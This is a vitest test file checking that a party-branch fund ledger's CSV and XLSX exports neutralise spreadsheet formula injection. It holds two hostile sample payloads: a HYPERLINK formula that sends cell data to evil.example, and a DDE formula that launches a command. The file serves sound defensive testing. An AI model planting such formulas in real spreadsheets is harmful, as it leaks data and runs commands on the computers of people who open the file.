import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import { renderCsv } from '../../src/reports/export-csv.js';
import { renderXlsx } from '../../src/reports/export-xlsx.js';
import type { LedgerDocument } from '../../src/reports/ledger-document.js';
import { branchWithSecretary, type Harness } from '../helpers/harness.js';

// OWASP "CSV Injection": a cell starting with = + - @, tab or carriage return is read as a formula
// by Excel / LibreOffice; prefixing it with a single quote makes it text.
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我领取")';
const DDE = "=cmd|' /C calc'!A0";

let h: Harness | undefined;
afterEach(async () => h?.stop());

const doc = (cells: string[]): LedgerDocument => ({
  title: '+第一党支部',
  header: [['支部', '@第一党支部']],
  sheets: [
    {
      name: '基金台账',
      tables: [{ columns: ['备注', '金额'], rows: cells.map((c) => [c, { yuan: -5000 }]) }],
    },
  ],
});

describe('formula injection in exports', () => {
  it('CSV: text cells starting with = + - @ tab or CR are prefixed with a quote; money stays a number', () => {
    const csv = renderCsv(
      doc([HYPERLINK, DDE, '+1', '-1+1', '@SUM(A1)', '\tx', '\rx', '正常 备注']),
    ).toString('utf8');
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe("\uFEFF'+第一党支部");
    expect(lines[1]).toBe("支部,'@第一党支部");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我领取"")",-50.00`);
    expect(csv).toContain(`'=cmd|' /C calc'!A0,-50.00`);
    expect(csv).toContain(`'+1,-50.00`);
    expect(csv).toContain(`'-1+1,-50.00`);
    expect(csv).toContain(`'@SUM(A1),-50.00`);
    expect(csv).toContain(`'\tx,-50.00`);
    expect(csv).toContain(`"'\rx",-50.00`);
    expect(csv).toContain('正常 备注,-50.00');
  });

  it('XLSX: the same notes are plain string cells, never formulas, and keep their text', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await renderXlsx(doc([HYPERLINK, DDE]), 0)) as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    wb.getWorksheet('基金台账')!.eachRow((row) => row.eachCell((c) => cells.push(c)));
    const notes = cells.filter((c) => c.value === HYPERLINK || c.value === DDE);
    expect(notes).toHaveLength(2);
    for (const c of notes) expect(c.type).toBe(ExcelJS.ValueType.String);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it('a donation note with =HYPERLINK(...) reaches the 导出 csv file neutralised', async () => {
    h = await branchWithSecretary('2026-11-02 08:00');
    await h.say('书记', `捐款 50 ${DDE}`);
    const before = h.adapter.sent.length;
    await h.say('书记', '导出 本月 csv');
    const file = h.adapter.sent.slice(before).find((m) => m.file)!.file!;
    const csv = readFileSync(file.path, 'utf8');
    expect(csv).toContain(`'=cmd|' /C calc'!A0`);
    expect(csv).not.toMatch(/(^|,)=cmd/m);
  });
});
